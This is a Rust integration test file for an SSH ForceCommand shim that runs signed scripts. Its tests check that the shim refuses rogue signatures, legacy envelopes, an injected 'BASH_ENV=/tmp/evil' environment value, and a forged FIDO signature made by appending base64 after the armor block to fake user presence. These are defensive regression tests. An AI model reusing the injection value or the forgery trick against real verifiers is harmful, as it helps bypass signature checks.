// Through a real OpenSSH sshd with the shim as ForceCommand (loopback, random port).

struct Sshd {
    child: std::process::Child,
    port: u16,
    client_key: PathBuf,
}

impl Drop for Sshd {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn whoami() -> String {
    let out = Command::new("id").arg("-un").output().expect("id");
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// Start sshd for `host`, or return None (with a note) where that is impossible.
fn start_sshd(host: &Host) -> Option<Sshd> {
    let sshd = Path::new("/usr/sbin/sshd");
    if !sshd.exists() || whoami() != "root" || !Path::new("/run/sshd").is_dir() {
        eprintln!("skipping: needs root, /usr/sbin/sshd and /run/sshd");
        return None;
    }
    let dir = host.dir.path();
    let hostkey = keygen(dir, "hostkey", "ed25519", None);
    let client = keygen(dir, "client", "ed25519", None);
    std::fs::write(dir.join("authorized_keys"), format!("{}\n", client.public)).expect("ak");
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("free port")
        .port();
    let config = format!(
        "Port {port}\nListenAddress 127.0.0.1\nHostKey {hk}\nPidFile {d}/sshd.pid\n\
         AuthorizedKeysFile {d}/authorized_keys\nStrictModes no\nUsePAM no\n\
         PasswordAuthentication no\nKbdInteractiveAuthentication no\n\
         PermitRootLogin prohibit-password\nPermitUserEnvironment no\nLogLevel ERROR\n\
         ForceCommand env TMPDIR={d}/tmp {shim} --allowed-signers {d}/allowed_signers --state-dir {d}/state\n",
        hk = hostkey.private.display(),
        d = dir.display(),
        shim = shim_path().display(),
    );
    std::fs::write(dir.join("sshd_config"), config).expect("config");
    let child = Command::new(sshd)
        .args(["-D", "-e", "-f"])
        .arg(dir.join("sshd_config"))
        .stdin(Stdio::null())
        .stderr(std::fs::File::create(dir.join("sshd.log")).expect("log"))
        .spawn()
        .expect("spawn sshd");
    let deadline = Instant::now() + Duration::from_secs(10);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(Instant::now() < deadline, "sshd did not start");
        std::thread::sleep(Duration::from_millis(50));
    }
    Some(Sshd {
        child,
        port,
        client_key: client.private,
    })
}

fn ssh(sshd: &Sshd, command: &str, stdin: &[u8]) -> Output {
    let mut child = Command::new("ssh")
        .arg("-i")
        .arg(&sshd.client_key)
        .args([
            "-p",
            &sshd.port.to_string(),
            "-o",
            "BatchMode=yes",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "LogLevel=ERROR",
            "-o",
            "IdentitiesOnly=yes",
            "-o",
            "SetEnv=KPSSH_OUT=/tmp/should-not-arrive BASH_ENV=/tmp/evil",
            &format!("{}@127.0.0.1", whoami()),
            command,
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn ssh");
    let mut input = child.stdin.take().expect("stdin");
    let data = stdin.to_vec();
    let writer = std::thread::spawn(move || {
        let _ = input.write_all(&data);
    });
    let out = child.wait_with_output().expect("ssh");
    writer.join().expect("writer");
    out
}

#[test]
fn through_sshd_force_command() {
    let host = Host::new();
    let Some(sshd) = start_sshd(&host) else {
        return;
    };
    let probe = ssh(&sshd, "probe", b"");
    assert_eq!(code(&probe), 0, "{}", stderr(&probe));
    assert!(String::from_utf8_lossy(&probe.stdout).starts_with("kpssh-probe=1\ncpu="));

    // E7: a rogue-signed join is refused by the shim; nothing runs.
    let profile: ProfileRef = "demo@1".parse().expect("profile");
    let exp = future();
    let rogue = v2_envelope(&host, &host.rogue, Phase::Join, "demo@1", exp, SCRIPT);
    let out = ssh(&sshd, "/opt/kpssh/kpssh-shim run join demo@1", &rogue);
    assert_eq!(code(&out), exit::SIGNATURE, "{}", stderr(&out));
    assert!(!host.ran());

    // v2 by default: a valid v1 envelope is refused by a shim without --allow-v1 (exit 6),
    // before anything runs.
    let v1 = raw_v1(
        "join",
        &host.params_text(),
        Some(&sign(&host.key, SCRIPT.as_bytes())),
        SCRIPT.as_bytes(),
    );
    let out = ssh(&sshd, "/opt/kpssh/kpssh-shim run join", &v1);
    assert_eq!(code(&out), exit::EXPIRED, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("v1 envelopes are refused"),
        "{}",
        stderr(&out)
    );
    assert!(!host.ran());

    // E6: verified join then leave, built by the controller-side code.
    let trusted = TrustedSigners::parse(&[host.key.public.as_str()]).expect("trusted");
    for phase in [Phase::Join, Phase::Leave] {
        let sig = sign(
            &host.key,
            manifest_v2(phase, &profile, SCRIPT.as_bytes(), &exp).as_bytes(),
        );
        let run = prepare(
            &trusted,
            PhaseRequest {
                phase,
                profile: profile.clone(),
                script: SCRIPT,
                signatures: PhaseSignatures {
                    v1: None,
                    v2: Some((exp.to_string(), sig)),
                },
                params: host.params(),
                shim_command: "/opt/kpssh/kpssh-shim",
                allow_v1: false,
                timeout: None,
            },
            jiff::Timestamp::now(),
        )
        .expect("prepare");
        let out = ssh(&sshd, &run.command, &run.stdin);
        assert_eq!(code(&out), 0, "{phase}: {}", stderr(&out));
        assert_eq!(
            std::fs::read_to_string(host.out()).expect("ran"),
            "none|unset|unset|0022\n"
        );
        std::fs::remove_file(host.out()).expect("rm");
    }
    assert!(host.tmp_is_empty());
}

/// A FIDO (`sk-…@openssh.com`) signature over `msg` with the given flags byte, made in software
/// from an ssh-keygen key (ed25519 or ECDSA P-256) the way an authenticator would make it, for
/// the FIDO application `app`. Returns the armored signature and the FIDO public key line.
fn fido_signature(
    app: &str,
    flags: u8,
    key: &russh::keys::ssh_key::PrivateKey,
    msg: &[u8],
) -> (String, String) {
    use russh::keys::ssh_key::public::{EcdsaPublicKey, KeyData, SkEcdsaSha2NistP256, SkEd25519};
    use russh::keys::ssh_key::{Algorithm, HashAlg, LineEnding, PublicKey, Signature, SshSig};
    use sha2::Digest as _;
    use signature::Signer as _;

    let signed = SshSig::signed_data("kpssh", HashAlg::Sha512, msg).expect("signed data");
    let trailer = [flags, 0, 0, 0, 42];
    let mut to_sign = sha2::Sha256::digest(app.as_bytes()).to_vec();
    to_sign.extend(trailer);
    to_sign.extend(sha2::Sha256::digest(&signed));
    let (public, algorithm, mut data) = if let Some(kp) = key.key_data().ed25519() {
        let raw: Signature = kp.try_sign(&to_sign).expect("sign");
        (
            KeyData::SkEd25519(SkEd25519::new(kp.public, app)),
            Algorithm::SkEd25519,
            raw.as_bytes().to_vec(),
        )
    } else {
        let kp = key.key_data().ecdsa().expect("ecdsa");
        let raw: Signature = kp.try_sign(&to_sign).expect("sign");
        let Some(EcdsaPublicKey::NistP256(point)) = key.public_key().key_data().ecdsa() else {
            panic!("p256 expected");
        };
        (
            KeyData::SkEcdsaSha2NistP256(SkEcdsaSha2NistP256::new(*point, app)),
            Algorithm::SkEcdsaSha2NistP256,
            raw.as_bytes().to_vec(),
        )
    };
    data.extend(trailer);
    let sig = Signature::new(algorithm, data).expect("sig");
    let armored = SshSig::new(public.clone(), "kpssh", HashAlg::Sha512, sig)
        .expect("sshsig")
        .to_pem(LineEnding::LF)
        .expect("pem");
    (
        armored,
        PublicKey::from(public).to_openssh().expect("openssh"),
    )
}

/// FIDO (`sk-…@openssh.com`) signatures: both the controller and the shim's `ssh-keygen -Y
/// verify` accept them with the user-presence flag and refuse them without.
#[test]
fn fido_signatures_verify_on_both_sides_and_need_user_presence() {
    use russh::keys::ssh_key::PrivateKey;

    let host = Host::v1();
    let app = "ssh:";
    let msg = SCRIPT.as_bytes();
    for (name, kind, bits, alg) in [
        ("sked", "ed25519", None, "sk-ssh-ed25519@openssh.com"),
        (
            "skec",
            "ecdsa",
            Some("256"),
            "sk-ecdsa-sha2-nistp256@openssh.com",
        ),
    ] {
        let k = keygen(host.dir.path(), name, kind, bits);
        let private = PrivateKey::read_openssh_file(&k.private).expect("read");
        let (touched, public) = fido_signature(app, 0x01, &private, msg);
        let (untouched, _) = fido_signature(app, 0x00, &private, msg);
        let trusted = TrustedSigners::parse(&[public.as_str()]).expect("trusted");
        assert_eq!(trusted.verify(&touched, msg).expect(name).algorithm, alg);
        assert_eq!(
            trusted.verify(&touched, b"other"),
            Err(SigError::BadSignature)
        );
        assert_eq!(
            trusted.verify(&untouched, msg),
            Err(SigError::SkUserPresence)
        );

        let line = allowed_signers_line(&public).expect("line");
        std::fs::write(host.path("allowed_signers"), format!("{line}\n")).expect("write");
        let p = host.params_text();
        let out = host.shim("run join", &raw_v1("join", &p, Some(&untouched), msg));
        assert_eq!(code(&out), exit::SIGNATURE, "{name}: {}", stderr(&out));
        assert!(!host.ran());
        let out = host.shim("run join", &raw_v1("join", &p, Some(&touched), msg));
        assert_eq!(code(&out), 0, "{name}: {}", stderr(&out));
        assert!(host.ran());
        std::fs::remove_file(host.out()).expect("rm");
    }
}

/// The shim reads the FIDO flags from the armored block that `ssh-keygen -Y verify` checked,
/// and nothing else: text after `-----END SSH SIGNATURE-----` (which ssh-keygen ignores) must
/// not turn a signature made without user presence into one that looks touched. Before the fix
/// the shim decoded every line not starting with `-----`, so an appended base64 line became the
/// blob's last five bytes.
#[test]
fn text_after_the_armor_does_not_change_the_fido_flags_read() {
    use russh::keys::ssh_key::PrivateKey;

    let host = Host::v1();
    let msg = SCRIPT.as_bytes();
    let k = keygen(host.dir.path(), "sked", "ed25519", None);
    let private = PrivateKey::read_openssh_file(&k.private).expect("read");
    // An application whose blob needs no base64 padding, so that appended base64 continues the
    // decoded bytes instead of failing after a `=`.
    let (untouched, public) = ["ssh:", "ssh:a", "ssh:ab"]
        .into_iter()
        .map(|app| fido_signature(app, 0x00, &private, msg))
        .find(|(armored, _)| !armored.contains('='))
        .expect("one application length needs no padding");
    let line = allowed_signers_line(&public).expect("line");
    std::fs::write(host.path("allowed_signers"), format!("{line}\n")).expect("write");
    // Six bytes whose last five are a "user present" trailer: flags 0x01, counter 42.
    let forged = format!("{untouched}{}\n", B64.encode([0u8, 1, 0, 0, 0, 42]));
    // ssh-keygen itself accepts the appended text (it stops at the END line) ...
    let verify = {
        let sig = host.path("forged.sig");
        std::fs::write(&sig, &forged).expect("sig");
        let mut child = Command::new("ssh-keygen")
            .args(["-Y", "verify", "-n", "kpssh", "-I", "kpssh", "-f"])
            .arg(host.path("allowed_signers"))
            .arg("-s")
            .arg(&sig)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("ssh-keygen");
        child
            .stdin
            .take()
            .expect("stdin")
            .write_all(msg)
            .expect("msg");
        child.wait_with_output().expect("wait")
    };
    assert!(verify.status.success(), "ssh-keygen: {verify:?}");
    // ... and the shim still sees the untouched flags.
    let p = host.params_text();
    let out = host.shim("run join", &raw_v1("join", &p, Some(&forged), msg));
    assert_eq!(code(&out), exit::SIGNATURE, "{}", stderr(&out));
    assert!(stderr(&out).contains("user presence"), "{}", stderr(&out));
    assert!(!host.ran());
    // A signature that does not start with the armor is refused as such.
    let prefixed = format!("junk\n{untouched}");
    let out = host.shim("run join", &raw_v1("join", &p, Some(&prefixed), msg));
    assert_eq!(code(&out), exit::SIGNATURE, "{}", stderr(&out));
    assert!(!host.ran());
}

/// Without ForceCommand (no `SSH_ORIGINAL_COMMAND`) the command comes from the arguments.
#[test]
fn direct_invocation_takes_the_command_from_arguments() {
    let host = Host::v1();
    let sig = sign(&host.key, SCRIPT.as_bytes());
    let env = raw_v1("join", &host.params_text(), Some(&sig), SCRIPT.as_bytes());
    for (args, want) in [
        (&["run", "leave"][..], exit::PHASE),
        (&["run", "join"][..], 0),
    ] {
        let mut cmd = host.command("unused");
        cmd.env_remove("SSH_ORIGINAL_COMMAND").args(args);
        let mut child = cmd.spawn().expect("spawn");
        child
            .stdin
            .take()
            .expect("stdin")
            .write_all(&env)
            .expect("write");
        let out = child.wait_with_output().expect("wait");
        assert_eq!(code(&out), want, "{args:?}: {}", stderr(&out));
    }
    assert!(host.ran());
}
